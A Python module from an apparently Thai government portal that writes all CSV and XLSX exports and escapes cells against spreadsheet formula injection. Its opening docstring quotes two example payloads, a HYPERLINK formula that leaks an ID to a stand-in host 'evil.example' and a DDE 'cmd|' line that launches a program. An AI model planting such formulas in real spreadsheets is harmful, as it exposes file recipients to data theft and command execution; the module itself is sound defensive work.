"""The one writer of every CSV and XLSX file the portal gives out: report exports, name lists, the agency's
delegated list, error workbooks, template workbooks and the admin's exports (issue #16, finding 6).

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as a formula:
a name imported as =HYPERLINK("http://evil.example/?"&A2, "คลิก") would send the ID beside it to another
host when clicked, and a CSV cell like -2+3+cmd|' /C calc'!A0 runs a program in old Excel. So every text
cell that starts so gets a leading ' and is written as text: Excel and LibreOffice show it as it was typed.
XLSX cells are also stripped of the control characters the format cannot hold (openpyxl refuses them).

It sits below every app that writes files (reporting → matching → cardholders); reporting/exports.py is the
report exporter built on it.
"""

import csv
import datetime
import io
from collections.abc import Callable, Iterable, Iterator
from urllib.parse import quote

from django.http import HttpResponse, StreamingHttpResponse
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER_FONT, HEADER_FILL = Font(bold=True), PatternFill("solid", fgColor="E8EEF8")
BOM = "\ufeff"  # so Excel opens Thai text in a CSV as UTF-8
THAI_FONT = "TH SarabunPSK"  # the government's standard Thai font, as the letters and the result report use
# A real Excel date shown in Thai with its Buddhist year (calendar 107): 27 พ.ย. 2569.
THAI_DATE_FORMAT = "[$-th-TH,107]d mmm yyyy"


def safe_cell(value):
    """The value a spreadsheet shows as it is: text that would start a formula gets a leading '."""
    if isinstance(value, str) and (value.startswith(FORMULA_PREFIXES) or value.lstrip().startswith(FORMULA_PREFIXES)):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


# ---- CSV -----------------------------------------------------------------------------------------------


class _Echo:
    def write(self, value):
        return value


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """The file as lines of text, byte-order mark first; rows are read as they are needed (streamed)."""
    writer = csv.writer(_Echo())
    yield BOM
    for row in rows:
        yield writer.writerow(safe_row(row))


def write_csv(rows: Iterable[Iterable], stream) -> None:
    """Rows to an open text stream (a command's output, a file), without a byte-order mark."""
    writer = csv.writer(stream)
    for row in rows:
        writer.writerow(safe_row(row))


def attachment(filename: str) -> str:
    """Content-Disposition for a download (RFC 6266): a Thai name as filename* (UTF-8), with a plain
    ASCII filename beside it for clients that read only that."""
    plain = "".join(c for c in filename if c.isascii() and c not in '"\\' and c.isprintable())
    if plain == filename:
        return f'attachment; filename="{filename}"'
    stem, dot, extension = plain.rpartition(".")
    stem = "-".join(part for part in stem.replace("_", "-").split("-") if part) or "download"
    return f"attachment; filename=\"{stem}{dot}{extension}\"; filename*=UTF-8''{quote(filename, safe='')}"


def csv_response(rows: Iterable[Iterable], filename: str) -> StreamingHttpResponse:
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = attachment(filename)
    return response


# ---- XLSX ----------------------------------------------------------------------------------------------


def xlsx_cell(sheet, value, *, font=None, fill=None, wrap=False, escape=True) -> WriteOnlyCell:
    """A write-only cell holding `value` escaped; text stays text (a string cell, never a formula).

    escape=False keeps text exactly as it is, still as a string cell that no spreadsheet runs on opening:
    only for the reference lists of the template workbooks, which a person copies codes and names from."""
    if escape:
        value = safe_cell(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    elif isinstance(value, datetime.date) and not isinstance(value, datetime.datetime):
        cell.number_format = THAI_DATE_FORMAT  # a date Excel can sort and compute with, read in Thai
    if font is not None:
        cell.font = font
    if fill is not None:
        cell.fill = fill
    if wrap or fill is not None:
        cell.alignment = Alignment(wrap_text=wrap, vertical="center")
    return cell


def append_header(sheet, names: list, *, widths: Callable[[str], int] | None = None, font: Font = HEADER_FONT) -> None:
    """A bold, shaded header row, with column widths that fit the names (or `widths(name)`)."""
    for index, name in enumerate(names, start=1):
        width = widths(str(name)) if widths else max(10, min(45, len(str(name)) + 4))
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.append([xlsx_cell(sheet, name, font=font, fill=HEADER_FILL, wrap=True) for name in names])


def write_xlsx(
    rows: Iterable[Iterable],
    stream,
    *,
    title: str = "",
    sheet_title: str = "รายงาน",
    bold: Callable[[list], bool] = lambda row: False,
    title_rows: Iterable[str] = (),
    font_name: str | None = None,
) -> None:
    """One sheet: `title_rows` (each a line of text, large and bold), the first row as a header, then the
    rest (rows for which `bold(row)` holds in bold); every cell in `font_name` when given (THAI_FONT)."""
    workbook = Workbook(write_only=True)
    workbook.properties.title = title
    sheet = workbook.create_sheet(title=sheet_title)
    size = 14 if font_name else None
    title_font = Font(name=font_name, size=16 if font_name else 13, bold=True)
    for line in title_rows:
        sheet.append([xlsx_cell(sheet, line, font=title_font)])
    rows = iter(rows)
    header = next(rows, None)
    if header is not None:
        header_font = Font(name=font_name, size=size, bold=True) if font_name else HEADER_FONT
        append_header(sheet, list(header), font=header_font)
    bold_font, body_font = Font(name=font_name, size=size, bold=True), Font(name=font_name, size=size)
    for row in rows:
        row = list(row)
        font = bold_font if bold(row) else (body_font if font_name else None)
        sheet.append([xlsx_cell(sheet, value, font=font) for value in row])
    workbook.save(stream)


def xlsx_bytes(rows: Iterable[Iterable], **options) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(rows, buffer, **options)
    return buffer.getvalue()


def xlsx_response(content: bytes, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = attachment(filename)
    return response


# ---- the admin's exports (django-import-export) ---------------------------------------------------------
# Its own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT only drops one leading "=" (so "==1+1" stays a formula)
# and leaves + - @ alone; these formats write through the writer above instead.


def _dataset_rows(dataset) -> Iterator[list]:
    yield list(dataset.headers or [])
    yield from (list(row) for row in dataset)


class SafeCSV(base_formats.CSV):
    def export_data(self, dataset, **kwargs):
        return "".join(csv_lines(_dataset_rows(dataset)))


class SafeXLSX(base_formats.XLSX):
    def export_data(self, dataset, **kwargs):
        return xlsx_bytes(_dataset_rows(dataset), sheet_title="ข้อมูล")
